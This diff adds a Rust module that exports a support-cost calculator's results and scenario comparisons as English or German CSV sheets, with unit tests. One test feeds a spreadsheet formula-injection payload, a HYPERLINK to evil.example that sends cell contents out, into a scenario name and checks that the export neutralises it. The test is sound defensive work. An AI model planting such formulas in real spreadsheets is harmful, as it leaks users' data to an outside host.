@@ -1,0 +1,367 @@
+//! The results as a sheet a client can read (issue 14.11): the answer, every input with its unit, the
+//! platform's plans, each option's breakdown, the cheapest option in each range, the break-evens in
+//! words, and the chart's data at a round step. Labels are the page's, in its language; numbers are
+//! plain, in the language's way of writing them (`model::export::Sheet`).
+
+use crate::i18n::{Lang, TITLE};
+use crate::model::compare::{against_first, differences, summary};
+use crate::model::export::{text, Sheet};
+use crate::model::regimes::Regime;
+use crate::model::report::{LineKind, Report};
+use crate::model::schema::{numbers, Unit};
+use crate::model::series::stepped;
+use crate::model::{OptionId, Scenario};
+use crate::text::{
+    crossing_sentence, kind_name, no_crossing, no_option, option_detail, plans_caveat,
+    regimes_sentence, verdict,
+};
+
+/// The whole sheet. `date` is the day it is made, as the page writes dates; `escalations_mine` says who
+/// handles escalations (not part of the scenario).
+pub fn results_sheet(
+    s: &Scenario,
+    r: &Report,
+    regimes: &[Regime],
+    escalations_mine: bool,
+    date: &str,
+    l: Lang,
+) -> String {
+    let mut sheet = Sheet::new(l == Lang::De);
+    let cur = s.currency.as_str();
+    let pick = |en, de| l.pick(en, de);
+    let answer = match r.verdict() {
+        Some(v) => verdict(s.workload.tickets_per_month, &v, cur, l),
+        None => no_option(l).into(),
+    };
+    sheet.texts(&[l.pick(TITLE.0, TITLE.1)]);
+    sheet.texts(&[pick("Scenario", "Szenario"), &s.name]);
+    sheet.texts(&[pick("Date", "Datum"), date]);
+    sheet.texts(&[pick("Currency", "Währung"), cur]);
+    sheet.texts(&[pick("Answer", "Antwort"), &answer]);
+    let ranges = regimes_sentence(s.chart.x, regimes, s.chart.max, cur, l);
+    sheet.texts(&[
+        pick("Cheapest in each range", "Günstigste je Bereich"),
+        &ranges,
+    ]);
+    sheet.blank();
+
+    // Every input in the units the page shows it in (percent as percent).
+    sheet.texts(&[
+        pick("Input", "Eingabe"),
+        pick("Value", "Wert"),
+        pick("Unit", "Einheit"),
+    ]);
+    for (input, n) in numbers() {
+        let unit = n.range.unit;
+        let v = (n.get)(s);
+        let shown = if unit.is_percent() { v * 100.0 } else { v };
+        let unit_text = match unit {
+            Unit::Percent => "%".to_string(),
+            _ => unit.text(cur, s.platform.billing_unit, l),
+        };
+        let row = [
+            text(&input.listed_label(l)),
+            sheet.number(Some(shown)),
+            text(&unit_text),
+        ];
+        sheet.row(&row);
+    }
+    let billed = s.platform.billing_unit.name().get(l);
+    sheet.texts(&[pick("Platform billed", "Plattform rechnet ab"), billed]);
+    let escalations = if escalations_mine {
+        pick(
+            "by you, at the value of your hour",
+            "von Ihnen, zum Wert Ihrer Stunde",
+        )
+    } else {
+        pick(
+            "by developers, at the developer rate",
+            "von der Entwicklung, zum Entwicklersatz",
+        )
+    };
+    sheet.texts(&[
+        pick("Escalations handled", "Eskalationen bearbeitet"),
+        escalations,
+    ]);
+    sheet.blank();
+
+    let noun = s.platform.billing_unit.noun().get(l);
+    let fee = format!(
+        "{} ({cur} / {})",
+        pick("Monthly fee", "Monatsgebühr"),
+        pick("month", "Monat")
+    );
+    let included = format!("{} ({noun})", pick("Included", "Inklusive"));
+    let extra = format!("{} ({cur})", pick("Per extra unit", "Pro weitere Einheit"));
+    sheet.texts(&[pick("Plan", "Tarif"), &fee, &included, &extra]);
+    for p in &s.platform.plans {
+        let overage = match p.overage_per_unit {
+            Some(v) => sheet.number(Some(v)),
+            None => text(pick("none (capped)", "keiner (gedeckelt)")),
+        };
+        let row = [
+            text(&p.name),
+            sheet.number(Some(p.monthly_fee)),
+            sheet.number(Some(p.included_units)),
+            overage,
+        ];
+        sheet.row(&row);
+    }
+    sheet.texts(&[plans_caveat(l)]);
+    sheet.blank();
+
+    // One column per enabled option, one row per line of the breakdown, as the page's table.
+    let month = format!("{cur} / {}", pick("month", "Monat"));
+    let mut head = vec![text(&format!(
+        "{} ({month})",
+        pick("Monthly cost", "Monatliche Kosten")
+    ))];
+    head.extend(r.options.iter().map(|o| text(o.id.name().get(l))));
+    sheet.row(&head);
+    for kind in LineKind::ALL {
+        if !r
+            .options
+            .iter()
+            .any(|o| o.lines.iter().any(|x| x.kind == kind))
+        {
+            continue;
+        }
+        let mut cells = vec![text(kind_name(kind, l))];
+        cells.extend(r.options.iter().map(|o| {
+            let amount = o.lines.iter().find(|x| x.kind == kind).map(|x| x.amount);
+            sheet.number(amount)
+        }));
+        sheet.row(&cells);
+    }
+    let mut total = vec![text(pick("Total", "Gesamt"))];
+    total.extend(r.options.iter().map(|o| match o.monthly_cost {
+        Some(c) => sheet.number(Some(c)),
+        None => text(pick("not available", "nicht verfügbar")),
+    }));
+    sheet.row(&total);
+    let mut per_ticket = vec![text(&format!(
+        "{} ({cur})",
+        pick("Per ticket", "Pro Ticket")
+    ))];
+    per_ticket.extend(r.options.iter().map(|o| sheet.number(o.cost_per_ticket)));
+    sheet.row(&per_ticket);
+    let hours = r.workload.tier1_hours + r.workload.tier2_hours;
+    let mut staffing = vec![text(pick("Staffing", "Personal"))];
+    staffing.extend(
+        r.options
+            .iter()
+            .map(|o| text(&option_detail(o, s.platform.billing_unit, hours, l))),
+    );
+    sheet.row(&staffing);
+    sheet.blank();
+
+    sheet.texts(&[pick(
+        "Where the answer changes",
+        "Wo sich die Antwort ändert",
+    )]);
+    if r.chart_break_even.is_empty() {
+        sheet.texts(&[&no_crossing(s.chart.x, s.chart.max, cur, l)]);
+    }
+    for c in &r.chart_break_even {
+        sheet.texts(&[&crossing_sentence(s.chart.x, c, cur, l)]);
+    }
+    sheet.blank();
+
+    // The chart's data at a round step, from its start to its end.
+    let series = stepped(s);
+    let enabled: Vec<OptionId> = OptionId::ALL
+        .into_iter()
+        .filter(|id| series.enabled[*id])
+        .collect();
+    let axis = series.axis.name().get(l);
+    let axis = if series.axis == crate::model::XAxis::Tier1ResolutionRate {
+        format!("{axis} (%)")
+    } else {
+        axis.to_string()
+    };
+    let mut head = vec![text(&axis)];
+    head.extend(
+        enabled
+            .iter()
+            .map(|id| text(&format!("{} ({month})", id.name().get(l)))),
+    );
+    head.push(text(pick("Cheapest", "Am günstigsten")));
+    sheet.row(&head);
+    for (i, x) in series.xs.iter().enumerate() {
+        let shown = if series.axis == crate::model::XAxis::Tier1ResolutionRate {
+            x * 100.0
+        } else {
+            *x
+        };
+        let mut cells = vec![sheet.number(Some(shown))];
+        cells.extend(enabled.iter().map(|id| sheet.number(series.totals[i][*id])));
+        cells.push(text(series.cheapest(i).map_or("", |c| c.name().get(l))));
+        sheet.row(&cells);
+    }
+    sheet.finish()
+}
+
+/// The compared scenarios as a sheet: the results of each, the difference against the first, and the
+/// inputs that differ.
+pub fn compare_sheet(scenarios: &[Scenario], date: &str, l: Lang) -> String {
+    let mut sheet = Sheet::new(l == Lang::De);
+    let pick = |en, de| l.pick(en, de);
+    let summaries: Vec<_> = scenarios.iter().map(summary).collect();
+    let currency = |i: usize| scenarios[i].currency.as_str();
+    sheet.texts(&[l.pick(TITLE.0, TITLE.1), pick("Comparison", "Vergleich")]);
+    sheet.texts(&[pick("Date", "Datum"), date]);
+    sheet.blank();
+    let mut head = vec![text(pick("Per month", "Pro Monat"))];
+    head.extend(scenarios.iter().map(|s| text(&s.name)));
+    sheet.row(&head);
+    let mut row = vec![text(pick("Currency", "Währung"))];
+    row.extend(scenarios.iter().map(|s| text(&s.currency)));
+    sheet.row(&row);
+    let mut row = vec![text(pick("Cheapest", "Am günstigsten"))];
+    row.extend(
+        summaries
+            .iter()
+            .map(|r| text(r.cheapest.map_or("", |(id, _)| id.name().get(l)))),
+    );
+    sheet.row(&row);
+    let mut row = vec![text(pick("Cheapest cost", "Kosten der günstigsten"))];
+    row.extend(
+        summaries
+            .iter()
+            .map(|r| sheet.number(r.cheapest.map(|(_, c)| c))),
+    );
+    sheet.row(&row);
+    let first = scenarios.first().map_or("", |s| s.name.as_str());
+    let mut row = vec![text(&format!(
+        "{} {first}",
+        pick("Difference against", "Unterschied zu")
+    ))];
+    row.extend(
+        against_first(&summaries)
+            .into_iter()
+            .map(|d| sheet.number(d)),
+    );
+    sheet.row(&row);
+    for id in OptionId::ALL {
+        let mut row = vec![text(id.name().get(l))];
+        row.extend(summaries.iter().map(|r| match r.costs[id] {
+            None => text(pick("off", "aus")),
+            Some(None) => text(pick("not available", "nicht verfügbar")),
+            Some(Some(c)) => sheet.number(Some(c)),
+        }));
+        sheet.row(&row);
+    }
+    sheet.blank();
+    let refs: Vec<&Scenario> = scenarios.iter().collect();
+    let mut head = vec![text(pick("Inputs that differ", "Abweichende Eingaben"))];
+    head.extend(scenarios.iter().map(|s| text(&s.name)));
+    sheet.row(&head);
+    for d in differences(&refs) {
+        let mut row = vec![text(&d.changed.label(l))];
+        row.extend(
+            d.values
+                .iter()
+                .enumerate()
+                .map(|(i, v)| text(&v.as_ref().map_or(String::new(), |v| v.text(currency(i), l)))),
+        );
+        sheet.row(&row);
+    }
+    sheet.finish()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::regimes::regimes;
+    use crate::model::{report, Plan};
+
+    fn sheet_of(s: &Scenario, l: Lang) -> String {
+        let r = report(s);
+        let ranges = regimes(s, &r.chart_break_even);
+        results_sheet(s, &r, &ranges, true, "2026-12-02", l)
+    }
+
+    #[test]
+    fn the_sheet_reads_as_the_page_does_with_every_input_and_its_unit() {
+        let csv = sheet_of(&Scenario::default(), Lang::En);
+        for line in [
+            "Support cost calculator\r\n",
+            "Scenario,Example plugin shop\r\n",
+            "Answer,\"At 300 tickets a month the platform is cheapest: $5,089 a month, $2,261 less than doing it yourself.\"\r\n",
+            "Cheapest in each range,Below 30 tickets: doing it yourself. 30 to 116: a contractor. From 117: the platform.\r\n",
+            "Workload: Tickets per month,300,tickets\r\n",
+            "Workload: Tier-1 resolution rate,70,%\r\n",
+            "Rates: Developer hourly cost,60,$ / h\r\n",
+            "Platform billed,Per reply\r\n",
+            "Growth,549,350,1.9\r\n",
+            "Monthly cost (USD / month),Do it yourself,Employee,Contractor,Support platform\r\n",
+            "Total,7350,8530,5282.5,5089\r\n",
+            "Staffing,122.5\u{a0}h of your time,1.00 FTE paid (0.56 needed),62.5\u{a0}h billed,\"Growth plan, 750 replies\"\r\n",
+            "The platform is cheaper than a contractor from 117 tickets per month.\r\n",
+            "300,7350,8530,5282.5,5089,Support platform\r\n",
+        ] {
+            assert!(csv.contains(line), "{line:?} not in\n{csv}");
+        }
+        assert!(
+            csv.contains("Plan,Monthly fee (USD / month),Included (replies),Per extra unit (USD)")
+        );
+        assert!(csv.contains("illustrative examples"));
+        // The chart's data at a step of 20 tickets: 101 rows, not 2,001.
+        let rows = csv
+            .lines()
+            .skip_while(|l| !l.starts_with("Tickets per month,"))
+            .count();
+        assert_eq!(rows, 102);
+        assert!(!csv.contains("diy"), "no internal ids");
+    }
+
+    #[test]
+    fn a_german_sheet_uses_decimal_commas_and_semicolons() {
+        let csv = sheet_of(&Scenario::default(), Lang::De);
+        assert!(csv.contains("Gesamt;7350;8530;5282,5;5089\r\n"), "{csv}");
+        assert!(
+            csv.contains("Arbeitsaufkommen: Antworten pro Ticket;2,5;Antworten\r\n"),
+            "{csv}"
+        );
+        assert!(csv.contains("Bei 300 Tickets im Monat ist die Plattform am günstigsten"));
+    }
+
+    #[test]
+    fn names_from_a_link_cannot_become_formulas_in_the_sheet() {
+        let mut s = Scenario {
+            name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
+            ..Scenario::default()
+        };
+        s.platform.plans = vec![Plan::new("@evil", 549.0, 350.0, Some(1.9))];
+        let csv = sheet_of(&s, Lang::En);
+        assert!(csv.contains("Scenario,\"'=HYPERLINK("), "{csv}");
+        assert!(csv.contains("'@evil,549,350,1.9"));
+    }
+
+    #[test]
+    fn a_comparison_sheet_has_each_scenario_its_difference_and_what_differs() {
+        let a = Scenario::default();
+        let b = Scenario {
+            name: "Busy".into(),
+            workload: crate::model::scenario::Workload {
+                tickets_per_month: 900.0,
+                ..a.workload.clone()
+            },
+            ..a.clone()
+        };
+        let csv = compare_sheet(&[a, b], "2026-12-02", Lang::En);
+        assert!(
+            csv.contains("Per month,Example plugin shop,Busy\r\n"),
+            "{csv}"
+        );
+        assert!(csv.contains("Cheapest cost,5089,"), "{csv}");
+        assert!(
+            csv.contains("Difference against Example plugin shop,,"),
+            "{csv}"
+        );
+        assert!(
+            csv.contains("Workload: Tickets per month,300 tickets,900 tickets\r\n"),
+            "{csv}"
+        );
+    }
+}
